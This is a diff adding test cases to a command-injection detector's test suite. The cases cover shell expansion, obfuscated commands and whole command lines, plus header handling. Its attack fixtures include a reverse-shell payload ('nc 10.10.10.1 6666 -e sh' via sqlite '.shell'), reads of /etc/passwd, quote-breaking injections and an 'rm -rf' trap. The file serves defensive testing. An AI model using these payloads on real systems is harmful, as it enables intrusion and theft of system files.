@@ -230,3 +230,81 @@ describe('cmdi detector: second-wave shapes', () => {
     { value: 'Tom & Jerry; the cat and the mouse', location: 'xml' },
   ]);
 });
+
+describe('cmdi detector: shell forms without a command word, and whole command lines', () => {
+  checkAttacks(detectCmdi, 'cmdi', [
+    // directory-stack tilde and history expansion
+    { value: '~-1', rule: 'cmdi.shell_expansion' },
+    { value: '~+5', rule: 'cmdi.shell_expansion' },
+    { value: '!-1!-2', rule: 'cmdi.history_expansion' },
+    { value: '!!', severity: 1, rule: 'cmdi.history_expansion' },
+    // sqlite3 console dot-commands after the statement's own `;` (a literal `\n` is a line break too)
+    { value: ';\n.shell nc 10.10.10.1 6666 -e sh\n', rule: 'cmdi.sqlite_dot_command' },
+    { value: ';\\n.system nc 10.10.10.1 6666 -e sh\\n', rule: 'cmdi.sqlite_dot_command' },
+    { value: '1;.sh whoami', rule: 'cmdi.sqlite_dot_command' },
+    { value: '1;.\\"shell whoami\n', location: 'body', rule: 'cmdi.sqlite_dot_command' },
+    // a command line chained to another command line
+    { value: 'cd /;cd etc;column passwd\n', location: 'body', rule: 'cmdi.chained_command' },
+    // whole command lines: options, deep paths, wrappers, the Enter that submits them
+    { value: 'ansible all -m ping\n', location: 'body' },
+    { value: 'flock -u / whoami', location: 'body' },
+    { value: 'perf --version', location: 'body' },
+    { value: 'cat /path/file.gz\n', location: 'body' },
+    { value: "'ll' /var/www/" },
+    { value: 'find /etc -name passwd -exec cat {} +', location: 'body_name' },
+    { value: 'cscli alerts list\n', location: 'body' },
+    { value: 'chef-shell\n', location: 'body' },
+    { value: 'time who', severity: 1 },
+    { value: "ti''me who", rule: 'cmdi.obfuscated_command' },
+    { value: "'time' who", rule: 'cmdi.obfuscated_command' },
+    { value: "kill '-'9\n", location: 'body', rule: 'cmdi.obfuscated_command' },
+    // a quote that closes the application's string, then the command
+    { value: "'TiMe Sh -c whoami" },
+    { value: "';htop'", location: 'body' },
+    // versioned tool names, commands handed a command string, binaries by path, alias definitions
+    { value: 'echo | gcc7.4', location: 'body' },
+    { value: ";trap 'rm -rf file.txt' SIGEXIT", location: 'body' },
+    { value: ';at 2:00 "echo test"' },
+    { value: 'bin/visudo', rule: 'cmdi.command_line' },
+    { value: 'alias -gmr a=b\n', location: 'body', rule: 'cmdi.command_alias' },
+    { value: 'alias +m a=b', rule: 'cmdi.command_alias' },
+  ]);
+  checkBenign(detectCmdi, [
+    { value: '~ 5 minutes', location: 'body' },
+    { value: '~+' }, // "about plus": needs more than the value to tell
+    { value: 'Wow!!', location: 'body' },
+    { value: '!!', below: 2 },
+    { value: 'Time who knows', location: 'body' },
+    { value: 'Set the value to 1; then more', location: 'body', below: 2 },
+    { value: 'name;date;author', below: 2 },
+    { value: 'Python\n', location: 'body' },
+    { value: 'git\n', location: 'body' },
+    { value: 'bin/console' },
+    { value: 'The alias a=b is set', location: 'body' },
+    { value: 'alias name' },
+    { value: 'Visit at 2:00 "we meet"', location: 'body' },
+    { value: 'see you; .NET developers welcome', location: 'body' },
+    { value: "That's two \"O\"s in goose" },
+    { value: "'Hello' she said" },
+    { value: 'Cut orange quarters into crosswise slices about 1/8-inch thick.\n', location: 'body' },
+    { value: '{"dir":"~/docs","cmd":"list"}', location: 'body' },
+  ]);
+});
+
+describe('cmdi detector: headers that are never command lines', () => {
+  const header = (value: string, name: string) => detectCmdi(value, 'header', name);
+  it('blocks a User-Agent or Referer that is a command line', () => {
+    for (const v of ['set -o history', 'visudo', 'cscli alerts list', "'cscli' alerts list", 'code=ansible-console']) {
+      expect(header(v, 'User-Agent')?.severity, v).toBe(2);
+    }
+    expect(header('chef report nodes', 'referer')?.severity).toBe(2);
+  });
+  it('passes agent strings, client names and URLs', () => {
+    for (const v of ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36', 'curl/8.1.2', 'Wget', 'curl', 'python-requests/2.31.0', 'git/2.43.0']) {
+      expect(header(v, 'User-Agent'), v).toBeNull();
+    }
+    expect(header('https://example.com/a?b=c', 'Referer')).toBeNull();
+    // other headers keep the generic reading: a list header's words are not a command line
+    expect(header('set -o history', 'X-Note')).toBeNull();
+  });
+});
